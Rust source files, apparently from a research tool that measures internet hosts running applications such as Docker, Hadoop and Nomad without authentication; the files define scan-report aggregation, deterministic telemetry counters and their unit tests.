    pub version: Option<Version>,
    pub fingerprint_method: Option<FingerprintMethod>,
}

impl HostFinding {
    /// Release date of the fingerprinted version.
    pub fn release_date(&self) -> Option<ReleaseDate> {
        self.version.map(|v| v.released)
    }
}

/// Per-port counters for Table 2.
#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize)]
pub struct PortStat {
    pub open: u64,
    pub http: u64,
    pub https: u64,
}

/// The complete output of one pipeline run.
///
/// `Clone` + `Deserialize` exist for the
/// [`checkpoint`](crate::checkpoint) subsystem, which persists the
/// report accumulated so far and restores it on resume.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct ScanReport {
    /// Table 2 data.
    pub port_stats: BTreeMap<u16, PortStat>,
    /// Hosts excluded because every scanned port appeared open
    /// (the paper's 3.0M network artifacts).
    pub excluded_all_ports_open: u64,
    /// Addresses probed in stage I.
    pub addresses_probed: u64,
    /// Individual SYN probes sent.
    pub probes_sent: u64,
    /// Endpoints that spoke HTTP(S) but matched no signature.
    pub prefilter_discarded: u64,
    /// Endpoints that answered neither HTTP nor HTTPS.
    pub prefilter_silent: u64,
    /// Endpoints whose body matched at least one signature.
    pub prefilter_hits: u64,
    /// Stage II/III worker tasks that died and were absorbed instead of
    /// aborting the sweep. Always 0 on a healthy run; a non-zero value
    /// means some endpoints or hosts are missing from the counts above.
    pub task_failures: u64,
    /// Identified AWE hosts (one entry per host × application).
    pub findings: Vec<HostFinding>,
}

impl ScanReport {
    /// Fold another report into this one: counters add, per-port stats
    /// add field-wise, and `other`'s findings are appended after ours.
    ///
    /// This is the whole report reducer of the
    /// [`shard`](crate::shard) layer: every field except `findings` is
    /// an order-independent sum, and `findings` is ordered by stage-I
    /// batch sequence — so absorbing per-shard partial reports in
    /// ascending batch order reconstructs the single-pipeline report
    /// byte for byte.
    pub fn absorb(&mut self, other: ScanReport) {
        // Destructure so a future field cannot be silently dropped from
        // the merge.
        let ScanReport {
            port_stats,
            excluded_all_ports_open,
            addresses_probed,
            probes_sent,
            prefilter_discarded,
            prefilter_silent,
            prefilter_hits,
            task_failures,
            findings,
        } = other;
        for (port, stat) in port_stats {
            let entry = self.port_stats.entry(port).or_default();
            entry.open += stat.open;
            entry.http += stat.http;
            entry.https += stat.https;
        }
        self.excluded_all_ports_open += excluded_all_ports_open;
        self.addresses_probed += addresses_probed;
        self.probes_sent += probes_sent;
        self.prefilter_discarded += prefilter_discarded;
        self.prefilter_silent += prefilter_silent;
        self.prefilter_hits += prefilter_hits;
        self.task_failures += task_failures;
        self.findings.extend(findings);
    }

    /// Hosts running `app` (Table 3, "# Hosts" at simulation scale).
    pub fn hosts_running(&self, app: AppId) -> u64 {
        self.findings.iter().filter(|f| f.app == app).count() as u64
    }

    /// Vulnerable hosts running `app` (Table 3, "# MAVs").
    pub fn mavs(&self, app: AppId) -> u64 {
        self.findings
            .iter()
            .filter(|f| f.app == app && f.vulnerable)
            .count() as u64
    }

    /// All identified AWE hosts.
    pub fn total_hosts(&self) -> u64 {
        self.findings.len() as u64
    }

    /// All vulnerable hosts.
    pub fn total_mavs(&self) -> u64 {
        self.findings.iter().filter(|f| f.vulnerable).count() as u64
    }

    /// The vulnerable findings.
    pub fn vulnerable_findings(&self) -> impl Iterator<Item = &HostFinding> {
        self.findings.iter().filter(|f| f.vulnerable)
    }

    /// One-line description of the stage funnel: probes → open →
    /// spoke HTTP(S) → signature hits → findings → MAVs.
    pub fn funnel(&self) -> String {
        let open: u64 = self.port_stats.values().map(|s| s.open).sum();
        format!(
            "probes {} → open {} → spoke {} → signature hits {} → AWE hosts {} → MAVs {}",
            self.probes_sent,
            open,
            self.prefilter_hits + self.prefilter_discarded,
            self.prefilter_hits,
            self.total_hosts(),
            self.total_mavs(),
        )
    }

    /// Fraction of findings with a fingerprinted version.
    pub fn fingerprint_coverage(&self) -> f64 {
        if self.findings.is_empty() {
            return 0.0;
        }
        self.findings.iter().filter(|f| f.version.is_some()).count() as f64
            / self.findings.len() as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_apps::release_history;
    use std::net::Ipv4Addr;

    fn finding(app: AppId, vulnerable: bool, with_version: bool) -> HostFinding {
        HostFinding {
            endpoint: Endpoint::new(Ipv4Addr::new(20, 0, 0, 1), 80),
            scheme: Scheme::Http,
            app,
            vulnerable,
            version: with_version.then(|| release_history(app)[0]),
            fingerprint_method: with_version.then_some(FingerprintMethod::Voluntary),
        }
    }

    #[test]
    fn aggregation_counts() {
        let report = ScanReport {
            findings: vec![
                finding(AppId::Docker, true, true),
                finding(AppId::Docker, false, false),
                finding(AppId::Hadoop, true, true),
            ],
            ..Default::default()
        };
        assert_eq!(report.hosts_running(AppId::Docker), 2);
        assert_eq!(report.mavs(AppId::Docker), 1);
        assert_eq!(report.total_hosts(), 3);
        assert_eq!(report.total_mavs(), 2);
        assert_eq!(report.vulnerable_findings().count(), 2);
        assert!((report.fingerprint_coverage() - 2.0 / 3.0).abs() < 1e-9);
    }

    #[test]
    fn absorb_sums_counters_and_appends_findings() {
        let mut a = ScanReport {
            excluded_all_ports_open: 1,
            addresses_probed: 10,
            probes_sent: 120,
            prefilter_discarded: 2,
            prefilter_silent: 3,
            prefilter_hits: 4,
            task_failures: 0,
            findings: vec![finding(AppId::Docker, true, true)],
            ..Default::default()
        };
        a.port_stats.insert(
            80,
            PortStat {
                open: 5,
                http: 4,
                https: 0,
            },
        );
        let mut b = ScanReport {
            excluded_all_ports_open: 2,
            addresses_probed: 20,
            probes_sent: 240,
            prefilter_discarded: 1,
            prefilter_silent: 1,
            prefilter_hits: 1,
            task_failures: 1,
            findings: vec![finding(AppId::Hadoop, false, false)],
            ..Default::default()
        };
        b.port_stats.insert(
            80,
            PortStat {
                open: 2,
                http: 1,
                https: 0,
            },
        );
        b.port_stats.insert(
            443,
            PortStat {
                open: 1,
                http: 0,
                https: 1,
            },
        );
        a.absorb(b);
        assert_eq!(a.excluded_all_ports_open, 3);
        assert_eq!(a.addresses_probed, 30);
        assert_eq!(a.probes_sent, 360);
        assert_eq!(a.prefilter_discarded, 3);
        assert_eq!(a.prefilter_silent, 4);
        assert_eq!(a.prefilter_hits, 5);
        assert_eq!(a.task_failures, 1);
        assert_eq!(a.port_stats[&80].open, 7);
        assert_eq!(a.port_stats[&80].http, 5);
        assert_eq!(a.port_stats[&443].https, 1);
        assert_eq!(a.findings.len(), 2);
        assert_eq!(a.findings[0].app, AppId::Docker);
        assert_eq!(a.findings[1].app, AppId::Hadoop);
    }

    #[test]
    fn release_date_passthrough() {
        let f = finding(AppId::Hadoop, true, true);
        assert_eq!(
            f.release_date(),
            Some(release_history(AppId::Hadoop)[0].released)
        );
        let f = finding(AppId::Hadoop, true, false);
        assert_eq!(f.release_date(), None);
    }

    #[test]
    fn report_serializes_to_json() {
        let report = ScanReport {
            findings: vec![finding(AppId::Nomad, true, false)],
            ..Default::default()
        };
        let json = serde_json::to_string(&report).unwrap();
        assert!(json.contains("\"Nomad\""));
        assert!(json.contains("\"vulnerable\":true"));
    }
}
