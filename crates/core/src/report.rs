//! Scan report types.

use nokeys_apps::{AppId, ReleaseDate, Version};
use nokeys_http::{Endpoint, Scheme};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// How a version was determined.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum FingerprintMethod {
    /// The application voluntarily reveals its version (API endpoint,
    /// header, generator meta, HTML comment).
    Voluntary,
    /// Matched against the static-file hash knowledge base.
    KnowledgeBase,
}

/// One identified AWE host.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct HostFinding {
    pub endpoint: Endpoint,
    pub scheme: Scheme,
    /// The application attributed to this host.
    pub app: AppId,
    /// Stage III verdict: does the host carry a MAV?
    pub vulnerable: bool,
    /// Fingerprinted version, if determinable.
    pub version: Option<Version>,
    pub fingerprint_method: Option<FingerprintMethod>,
}

impl HostFinding {
    /// Release date of the fingerprinted version.
    pub fn release_date(&self) -> Option<ReleaseDate> {
        self.version.map(|v| v.released)
    }
}

/// Per-port counters for Table 2.
#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize)]
pub struct PortStat {
    pub open: u64,
    pub http: u64,
    pub https: u64,
}

/// The complete output of one pipeline run.
///
/// `Clone` + `Deserialize` exist for the
/// [`checkpoint`](crate::checkpoint) subsystem, which persists the
/// report accumulated so far and restores it on resume.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct ScanReport {
    /// Table 2 data.
    pub port_stats: BTreeMap<u16, PortStat>,
    /// Hosts excluded because every scanned port appeared open
    /// (the paper's 3.0M network artifacts).
    pub excluded_all_ports_open: u64,
    /// Addresses probed in stage I.
    pub addresses_probed: u64,
    /// Individual SYN probes sent.
    pub probes_sent: u64,
    /// Endpoints that spoke HTTP(S) but matched no signature.
    pub prefilter_discarded: u64,
    /// Endpoints that answered neither HTTP nor HTTPS.
    pub prefilter_silent: u64,
    /// Endpoints whose body matched at least one signature.
    pub prefilter_hits: u64,
    /// Stage II/III worker tasks that died and were absorbed instead of
    /// aborting the sweep. Always 0 on a healthy run; a non-zero value
    /// means some endpoints or hosts are missing from the counts above.
    pub task_failures: u64,
    /// Identified AWE hosts (one entry per host × application).
    pub findings: Vec<HostFinding>,
}

impl ScanReport {
    /// Hosts running `app` (Table 3, "# Hosts" at simulation scale).
    pub fn hosts_running(&self, app: AppId) -> u64 {
        self.findings.iter().filter(|f| f.app == app).count() as u64
    }

    /// Vulnerable hosts running `app` (Table 3, "# MAVs").
    pub fn mavs(&self, app: AppId) -> u64 {
        self.findings
            .iter()
            .filter(|f| f.app == app && f.vulnerable)
            .count() as u64
    }

    /// All identified AWE hosts.
    pub fn total_hosts(&self) -> u64 {
        self.findings.len() as u64
    }

    /// All vulnerable hosts.
    pub fn total_mavs(&self) -> u64 {
        self.findings.iter().filter(|f| f.vulnerable).count() as u64
    }

    /// The vulnerable findings.
    pub fn vulnerable_findings(&self) -> impl Iterator<Item = &HostFinding> {
        self.findings.iter().filter(|f| f.vulnerable)
    }

    /// One-line description of the stage funnel: probes → open →
    /// spoke HTTP(S) → signature hits → findings → MAVs.
    pub fn funnel(&self) -> String {
        let open: u64 = self.port_stats.values().map(|s| s.open).sum();
        format!(
            "probes {} → open {} → spoke {} → signature hits {} → AWE hosts {} → MAVs {}",
            self.probes_sent,
            open,
            self.prefilter_hits + self.prefilter_discarded,
            self.prefilter_hits,
            self.total_hosts(),
            self.total_mavs(),
        )
    }

    /// Fraction of findings with a fingerprinted version.
    pub fn fingerprint_coverage(&self) -> f64 {
        if self.findings.is_empty() {
            return 0.0;
        }
        self.findings.iter().filter(|f| f.version.is_some()).count() as f64
            / self.findings.len() as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_apps::release_history;
    use std::net::Ipv4Addr;

    fn finding(app: AppId, vulnerable: bool, with_version: bool) -> HostFinding {
        HostFinding {
            endpoint: Endpoint::new(Ipv4Addr::new(20, 0, 0, 1), 80),
            scheme: Scheme::Http,
            app,
            vulnerable,
            version: with_version.then(|| release_history(app)[0]),
            fingerprint_method: with_version.then_some(FingerprintMethod::Voluntary),
        }
    }

    #[test]
    fn aggregation_counts() {
        let report = ScanReport {
            findings: vec![
                finding(AppId::Docker, true, true),
                finding(AppId::Docker, false, false),
                finding(AppId::Hadoop, true, true),
            ],
            ..Default::default()
        };
        assert_eq!(report.hosts_running(AppId::Docker), 2);
        assert_eq!(report.mavs(AppId::Docker), 1);
        assert_eq!(report.total_hosts(), 3);
        assert_eq!(report.total_mavs(), 2);
        assert_eq!(report.vulnerable_findings().count(), 2);
        assert!((report.fingerprint_coverage() - 2.0 / 3.0).abs() < 1e-9);
    }

    #[test]
    fn release_date_passthrough() {
        let f = finding(AppId::Hadoop, true, true);
        assert_eq!(
            f.release_date(),
            Some(release_history(AppId::Hadoop)[0].released)
        );
        let f = finding(AppId::Hadoop, true, false);
        assert_eq!(f.release_date(), None);
    }

    #[test]
    fn report_serializes_to_json() {
        let report = ScanReport {
            findings: vec![finding(AppId::Nomad, true, false)],
            ..Default::default()
        };
        let json = serde_json::to_string(&report).unwrap();
        assert!(json.contains("\"Nomad\""));
        assert!(json.contains("\"vulnerable\":true"));
    }
}
