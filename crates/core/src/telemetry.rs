//! Pipeline-wide telemetry: counters, histograms and per-stage
//! virtual-clock timings.
//!
//! The paper's measurement claims (Tables 2–4, Figures 1–2) are only as
//! trustworthy as the pipeline's internal accounting, so every stage
//! records what it did into a shared [`Telemetry`] registry: stage I the
//! blocks it swept and ports it found open, stage II the probes it sent
//! and which signatures fired, stage III the per-application verify
//! outcomes, the fingerprinter its method mix, the longevity observer
//! its per-round status transitions, and the honeypot monitor its
//! attack-rate counters. The retry layer accounts per-lane under
//! `retry.{probe,connect,fetch}.{retries,recovered,exhausted}` plus a
//! `retry.<lane>.backoff` timer of virtual backoff units, and the repro
//! harness bridges the simulator's injected faults in as
//! `fault.{probe,connect}.injected` — which is what lets a snapshot
//! reconcile "faults injected" against "retries spent".
//!
//! # Design
//!
//! * **Lock-cheap.** The registry hands out [`Counter`] / [`Histogram`]
//!   / [`Timer`] handles backed by `Arc<AtomicU64>` cells. Registration
//!   takes a short registry lock once; every increment afterwards is a
//!   relaxed atomic add, so instrumented hot loops pay nanoseconds, not
//!   mutexes. All handles are `Send + Sync` and clone-cheap.
//! * **Deterministic.** Snapshots contain only order-independent sums —
//!   monotonic counters, fixed-bound histogram buckets, and *virtual*
//!   clock units (one unit ≈ one probe / request / automaton pass),
//!   never wall-clock time. A fixed seed therefore yields a
//!   byte-identical [`TelemetrySnapshot`] at any
//!   [`parallelism`](crate::pipeline::PipelineConfig::parallelism);
//!   `tests/telemetry_determinism.rs` enforces this.
//! * **Sorted serialization.** [`TelemetrySnapshot`] keeps every
//!   instrument in a `BTreeMap`, so the JSON emitted by
//!   [`TelemetrySnapshot::to_json`] has sorted keys and is stable across
//!   runs and platforms.

use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, RwLock};

/// A monotonic counter handle. Cloning shares the underlying cell.
#[derive(Clone, Debug, Default)]
pub struct Counter {
    cell: Arc<AtomicU64>,
}

impl Counter {
    /// Increment by one.
    pub fn incr(&self) {
        self.add(1);
    }

    /// Increment by `n`.
    pub fn add(&self, n: u64) {
        self.cell.fetch_add(n, Ordering::Relaxed);
    }

    /// Current value.
    pub fn get(&self) -> u64 {
        self.cell.load(Ordering::Relaxed)
    }
}

/// A histogram with fixed, inclusive upper bucket bounds plus an
/// overflow bucket. Bounds are fixed at registration so two runs always
/// aggregate into identical buckets.
#[derive(Clone, Debug)]
pub struct Histogram {
    core: Arc<HistogramCore>,
}

#[derive(Debug)]
struct HistogramCore {
    bounds: Vec<u64>,
    buckets: Vec<AtomicU64>,
    overflow: AtomicU64,
    count: AtomicU64,
    sum: AtomicU64,
}

impl Histogram {
    fn new(bounds: &[u64]) -> Self {
        assert!(
            bounds.windows(2).all(|w| w[0] < w[1]),
            "histogram bounds must be strictly increasing"
        );
        Histogram {
            core: Arc::new(HistogramCore {
                bounds: bounds.to_vec(),
                buckets: bounds.iter().map(|_| AtomicU64::new(0)).collect(),
                overflow: AtomicU64::new(0),
                count: AtomicU64::new(0),
                sum: AtomicU64::new(0),
            }),
        }
    }

    /// Record one observation.
    pub fn observe(&self, value: u64) {
        let c = &self.core;
        match c.bounds.iter().position(|&b| value <= b) {
            Some(i) => c.buckets[i].fetch_add(1, Ordering::Relaxed),
            None => c.overflow.fetch_add(1, Ordering::Relaxed),
        };
        c.count.fetch_add(1, Ordering::Relaxed);
        c.sum.fetch_add(value, Ordering::Relaxed);
    }

    /// Add a (delta) snapshot's buckets into this histogram. Used when
    /// replaying checkpointed telemetry; bounds must match.
    fn absorb(&self, s: &HistogramSnapshot) {
        let c = &self.core;
        assert_eq!(
            c.bounds, s.bounds,
            "cannot absorb a histogram snapshot with different bounds"
        );
        for (bucket, n) in c.buckets.iter().zip(&s.buckets) {
            bucket.fetch_add(*n, Ordering::Relaxed);
        }
        c.overflow.fetch_add(s.overflow, Ordering::Relaxed);
        c.count.fetch_add(s.count, Ordering::Relaxed);
        c.sum.fetch_add(s.sum, Ordering::Relaxed);
    }

    fn snapshot(&self) -> HistogramSnapshot {
        let c = &self.core;
        HistogramSnapshot {
            bounds: c.bounds.clone(),
            buckets: c
                .buckets
                .iter()
                .map(|b| b.load(Ordering::Relaxed))
                .collect(),
            overflow: c.overflow.load(Ordering::Relaxed),
            count: c.count.load(Ordering::Relaxed),
            sum: c.sum.load(Ordering::Relaxed),
        }
    }
}

/// A per-stage virtual-clock timer.
///
/// There is no wall clock anywhere in the registry: a timer accumulates
/// *virtual work units* declared by the stage itself (one unit ≈ one
/// probe, HTTP exchange, plugin run, …). Sums of units are independent
/// of task interleaving, which is what keeps snapshots deterministic
/// under concurrency. Every recorded unit also advances the registry's
/// global [virtual clock](Telemetry::virtual_clock).
#[derive(Clone, Debug)]
pub struct Timer {
    core: Arc<TimerCore>,
    clock: Arc<AtomicU64>,
}

#[derive(Debug, Default)]
struct TimerCore {
    events: AtomicU64,
    units: AtomicU64,
}

impl Timer {
    /// Record one timed section that took `units` of virtual work.
    pub fn record(&self, units: u64) {
        self.core.events.fetch_add(1, Ordering::Relaxed);
        self.core.units.fetch_add(units, Ordering::Relaxed);
        self.clock.fetch_add(units, Ordering::Relaxed);
    }

    /// Total recorded virtual units.
    pub fn units(&self) -> u64 {
        self.core.units.load(Ordering::Relaxed)
    }

    /// Add a (delta) snapshot's events and units into this timer,
    /// advancing the registry's virtual clock by the absorbed units —
    /// exactly as if the work had been [`record`](Self::record)ed here.
    fn absorb(&self, s: &TimingSnapshot) {
        self.core.events.fetch_add(s.events, Ordering::Relaxed);
        self.core.units.fetch_add(s.units, Ordering::Relaxed);
        self.clock.fetch_add(s.units, Ordering::Relaxed);
    }

    fn snapshot(&self) -> TimingSnapshot {
        TimingSnapshot {
            events: self.core.events.load(Ordering::Relaxed),
            units: self.core.units.load(Ordering::Relaxed),
        }
    }
}

#[derive(Default)]
struct Registry {
    counters: RwLock<BTreeMap<String, Counter>>,
    histograms: RwLock<BTreeMap<String, Histogram>>,
    timers: RwLock<BTreeMap<String, Timer>>,
    clock: Arc<AtomicU64>,
}

/// The shared metrics registry. Cloning is cheap (an `Arc` bump) and all
/// clones record into the same instruments; the registry is `Send +
/// Sync` so one instance can be threaded through every pipeline stage
/// and every spawned task.
#[derive(Clone, Default)]
pub struct Telemetry {
    registry: Arc<Registry>,
}

impl std::fmt::Debug for Telemetry {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Telemetry")
            .field(
                "counters",
                &self.registry.counters.read().expect("not poisoned").len(),
            )
            .field(
                "histograms",
                &self.registry.histograms.read().expect("not poisoned").len(),
            )
            .field(
                "timers",
                &self.registry.timers.read().expect("not poisoned").len(),
            )
            .field("virtual_clock", &self.virtual_clock())
            .finish()
    }
}

impl Telemetry {
    /// A fresh, empty registry.
    pub fn new() -> Self {
        Telemetry::default()
    }

    /// The counter named `name`, registering it at zero on first use.
    /// Callers should hold on to the returned handle: the lookup takes a
    /// registry lock, increments on the handle do not.
    pub fn counter(&self, name: &str) -> Counter {
        if let Some(c) = self
            .registry
            .counters
            .read()
            .expect("not poisoned")
            .get(name)
        {
            return c.clone();
        }
        self.registry
            .counters
            .write()
            .expect("not poisoned")
            .entry(name.to_string())
            .or_default()
            .clone()
    }

    /// The histogram named `name` with the given inclusive upper bucket
    /// `bounds` (plus an implicit overflow bucket). Re-registering with
    /// different bounds is a bug and panics.
    pub fn histogram(&self, name: &str, bounds: &[u64]) -> Histogram {
        if let Some(h) = self
            .registry
            .histograms
            .read()
            .expect("not poisoned")
            .get(name)
        {
            assert_eq!(
                h.core.bounds, bounds,
                "histogram '{name}' re-registered with different bounds"
            );
            return h.clone();
        }
        self.registry
            .histograms
            .write()
            .expect("not poisoned")
            .entry(name.to_string())
            .or_insert_with(|| Histogram::new(bounds))
            .clone()
    }

    /// The virtual-clock timer named `name`.
    pub fn timer(&self, name: &str) -> Timer {
        if let Some(t) = self.registry.timers.read().expect("not poisoned").get(name) {
            return t.clone();
        }
        self.registry
            .timers
            .write()
            .expect("not poisoned")
            .entry(name.to_string())
            .or_insert_with(|| Timer {
                core: Arc::new(TimerCore::default()),
                clock: Arc::clone(&self.registry.clock),
            })
            .clone()
    }

    /// The global virtual clock: total work units recorded by all timers.
    pub fn virtual_clock(&self) -> u64 {
        self.registry.clock.load(Ordering::Relaxed)
    }

    /// Merge a snapshot's values into this registry, registering any
    /// instrument the registry does not know yet.
    ///
    /// This is the replay half of checkpointing: a checkpointed run
    /// stores [`TelemetrySnapshot`]s (full prefixes or per-batch
    /// deltas), and a resuming run absorbs them so its registry ends up
    /// exactly where an uninterrupted run's would be. Counter values
    /// add, histogram buckets add bucket-wise (bounds must match), and
    /// timers add events/units — advancing the virtual clock by the
    /// absorbed units, which keeps
    /// [`virtual_clock`](Self::virtual_clock) equal to the sum of all
    /// timer units.
    pub fn absorb(&self, snapshot: &TelemetrySnapshot) {
        for (name, value) in &snapshot.counters {
            self.counter(name).add(*value);
        }
        for (name, h) in &snapshot.histograms {
            self.histogram(name, &h.bounds).absorb(h);
        }
        for (name, t) in &snapshot.timings {
            self.timer(name).absorb(t);
        }
    }

    /// A consistent point-in-time view of every instrument. Meant to be
    /// taken after a run completes; taking it while writers are active
    /// yields a valid but possibly mid-update view.
    pub fn snapshot(&self) -> TelemetrySnapshot {
        TelemetrySnapshot {
            virtual_clock_units: self.virtual_clock(),
            counters: self
                .registry
                .counters
                .read()
                .expect("not poisoned")
                .iter()
                .map(|(k, v)| (k.clone(), v.get()))
                .collect(),
            histograms: self
                .registry
                .histograms
                .read()
                .expect("not poisoned")
                .iter()
                .map(|(k, v)| (k.clone(), v.snapshot()))
                .collect(),
            timings: self
                .registry
                .timers
                .read()
                .expect("not poisoned")
                .iter()
                .map(|(k, v)| (k.clone(), v.snapshot()))
                .collect(),
        }
    }
}

/// Point-in-time state of one histogram.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HistogramSnapshot {
    /// Inclusive upper bucket bounds.
    pub bounds: Vec<u64>,
    /// Observation counts per bound.
    pub buckets: Vec<u64>,
    /// Observations above the last bound.
    pub overflow: u64,
    /// Total observations.
    pub count: u64,
    /// Sum of all observed values.
    pub sum: u64,
}

/// Point-in-time state of one virtual-clock timer.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct TimingSnapshot {
    /// Number of timed sections.
    pub events: u64,
    /// Total virtual work units.
    pub units: u64,
}

/// A deterministic, serializable view of the whole registry.
///
/// Keys are sorted (`BTreeMap`) and all values are order-independent
/// sums over virtual time, so the same seed produces byte-identical
/// JSON at any concurrency level.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TelemetrySnapshot {
    /// Total virtual work units across all timers at snapshot time.
    pub virtual_clock_units: u64,
    /// Counter values by name.
    pub counters: BTreeMap<String, u64>,
    /// Histogram states by name.
    pub histograms: BTreeMap<String, HistogramSnapshot>,
    /// Timer states by name.
    pub timings: BTreeMap<String, TimingSnapshot>,
}

impl TelemetrySnapshot {
    /// Compact deterministic JSON (sorted keys, no whitespace).
    pub fn to_json(&self) -> String {
        serde_json::to_string(self).expect("snapshot serializes")
    }

    /// Pretty-printed deterministic JSON.
    pub fn to_json_pretty(&self) -> String {
        serde_json::to_string_pretty(self).expect("snapshot serializes")
    }

    /// The work recorded since `prev` (an earlier snapshot of the same
    /// registry), as a snapshot of differences suitable for
    /// [`Telemetry::absorb`].
    ///
    /// Every instrument of `self` appears in the delta — including ones
    /// whose difference is zero — so absorbing a delta also registers
    /// the instruments a live run would have registered. Instruments
    /// are monotonic, so `prev` must be a genuine prefix; a counter
    /// that shrank indicates snapshots of two different registries and
    /// panics.
    pub fn delta_since(&self, prev: &TelemetrySnapshot) -> TelemetrySnapshot {
        let behind = |name: &str| -> ! {
            panic!("delta_since: '{name}' shrank — `prev` is not a prefix of this snapshot")
        };
        TelemetrySnapshot {
            virtual_clock_units: self
                .virtual_clock_units
                .checked_sub(prev.virtual_clock_units)
                .unwrap_or_else(|| behind("virtual_clock_units")),
            counters: self
                .counters
                .iter()
                .map(|(k, v)| {
                    let base = prev.counters.get(k).copied().unwrap_or(0);
                    (
                        k.clone(),
                        v.checked_sub(base).unwrap_or_else(|| behind(k)),
                    )
                })
                .collect(),
            histograms: self
                .histograms
                .iter()
                .map(|(k, h)| {
                    let delta = match prev.histograms.get(k) {
                        None => h.clone(),
                        Some(base) => {
                            assert_eq!(
                                base.bounds, h.bounds,
                                "delta_since: histogram '{k}' changed bounds"
                            );
                            HistogramSnapshot {
                                bounds: h.bounds.clone(),
                                buckets: h
                                    .buckets
                                    .iter()
                                    .zip(&base.buckets)
                                    .map(|(now, was)| {
                                        now.checked_sub(*was).unwrap_or_else(|| behind(k))
                                    })
                                    .collect(),
                                overflow: h
                                    .overflow
                                    .checked_sub(base.overflow)
                                    .unwrap_or_else(|| behind(k)),
                                count: h.count.checked_sub(base.count).unwrap_or_else(|| behind(k)),
                                sum: h.sum.checked_sub(base.sum).unwrap_or_else(|| behind(k)),
                            }
                        }
                    };
                    (k.clone(), delta)
                })
                .collect(),
            timings: self
                .timings
                .iter()
                .map(|(k, t)| {
                    let base = prev.timings.get(k).copied().unwrap_or(TimingSnapshot {
                        events: 0,
                        units: 0,
                    });
                    (
                        k.clone(),
                        TimingSnapshot {
                            events: t
                                .events
                                .checked_sub(base.events)
                                .unwrap_or_else(|| behind(k)),
                            units: t.units.checked_sub(base.units).unwrap_or_else(|| behind(k)),
                        },
                    )
                })
                .collect(),
        }
    }

    /// A counter's value, zero if it was never registered.
    pub fn counter(&self, name: &str) -> u64 {
        self.counters.get(name).copied().unwrap_or(0)
    }

    /// Sum of every counter whose name starts with `prefix` — e.g.
    /// `prefixed_total("stage3.verify.")` for all per-application verify
    /// outcomes.
    pub fn prefixed_total(&self, prefix: &str) -> u64 {
        self.counters
            .iter()
            .filter(|(k, _)| k.starts_with(prefix))
            .map(|(_, v)| v)
            .sum()
    }

    /// Human-readable multi-line summary (for terminals and logs).
    pub fn render_text(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!(
            "telemetry snapshot @ {} virtual units\n",
            self.virtual_clock_units
        ));
        if !self.counters.is_empty() {
            out.push_str("counters:\n");
            for (name, value) in &self.counters {
                out.push_str(&format!("  {name:<48} {value}\n"));
            }
        }
        if !self.timings.is_empty() {
            out.push_str("timings (virtual units / events):\n");
            for (name, t) in &self.timings {
                out.push_str(&format!("  {name:<48} {} / {}\n", t.units, t.events));
            }
        }
        if !self.histograms.is_empty() {
            out.push_str("histograms:\n");
            for (name, h) in &self.histograms {
                let buckets: Vec<String> = h
                    .bounds
                    .iter()
                    .zip(&h.buckets)
                    .map(|(b, n)| format!("≤{b}:{n}"))
                    .collect();
                out.push_str(&format!(
                    "  {name:<48} n={} sum={} [{} >:{}]\n",
                    h.count,
                    h.sum,
                    buckets.join(" "),
                    h.overflow
                ));
            }
        }
        out
    }
}

/// Bridge from the HTTP connection pool's observer callback into the
/// registry's `transport.pool.*` counters.
///
/// `nokeys-http` deliberately does not depend on this crate, so the
/// pool reports lifecycle events through a plain callback
/// ([`nokeys_http::pool::PooledTransport::with_observer`]); this type
/// is the scanner-side half that lands those events in telemetry:
///
/// ```ignore
/// let pooled = PooledTransport::new(tcp)
///     .with_observer(PoolMetrics::observer(&telemetry));
/// ```
#[derive(Clone, Debug)]
pub struct PoolMetrics {
    hits: Counter,
    misses: Counter,
    stale_retries: Counter,
    evicted: Counter,
    expired: Counter,
}

impl PoolMetrics {
    /// Register the `transport.pool.*` counters in `telemetry`.
    pub fn new(telemetry: &Telemetry) -> Self {
        PoolMetrics {
            hits: telemetry.counter("transport.pool.hit"),
            misses: telemetry.counter("transport.pool.miss"),
            stale_retries: telemetry.counter("transport.pool.stale_retry"),
            evicted: telemetry.counter("transport.pool.evicted"),
            expired: telemetry.counter("transport.pool.expired"),
        }
    }

    /// Count one pool event.
    pub fn record(&self, event: nokeys_http::pool::PoolEvent) {
        use nokeys_http::pool::PoolEvent;
        match event {
            PoolEvent::Hit => self.hits.incr(),
            PoolEvent::Miss => self.misses.incr(),
            PoolEvent::StaleRetry => self.stale_retries.incr(),
            PoolEvent::Evicted => self.evicted.incr(),
            PoolEvent::Expired => self.expired.incr(),
        }
    }

    /// A ready-made observer closure for
    /// [`PooledTransport::with_observer`](nokeys_http::pool::PooledTransport::with_observer).
    pub fn observer(
        telemetry: &Telemetry,
    ) -> impl Fn(nokeys_http::pool::PoolEvent) + Send + Sync + 'static {
        let metrics = PoolMetrics::new(telemetry);
        move |event| metrics.record(event)
    }
}

/// The `alloc.*` family: deterministic allocation telemetry for the
/// scratch-arena hot path.
///
/// Nothing here samples the live allocator. Worker scheduling decides
/// which worker's arena sees which body, so real buffer-capacity
/// history is not deterministic — but *classified* allocation demand
/// is: every counter below is a pure function of the probe stream
/// (body content, body length, header shape), identical at any
/// parallelism or shard count and with scratch reuse on or off.
///
/// - `alloc.views.lower` / `alloc.views.squashed` — bodies whose
///   matched content actually required a distinct view (contains
///   ASCII uppercase / contains whitespace). Bodies already in
///   canonical form are matched in place and counted nowhere.
/// - `alloc.view_bytes.lower` / `alloc.view_bytes.squashed` — bytes
///   those views copied.
/// - `alloc.scratch.hit` / `alloc.scratch.grow` — each materialized
///   view classified against the fixed [`Scratch::RESERVE`] size
///   class. A "grow" is a view a freshly-reserved arena could not
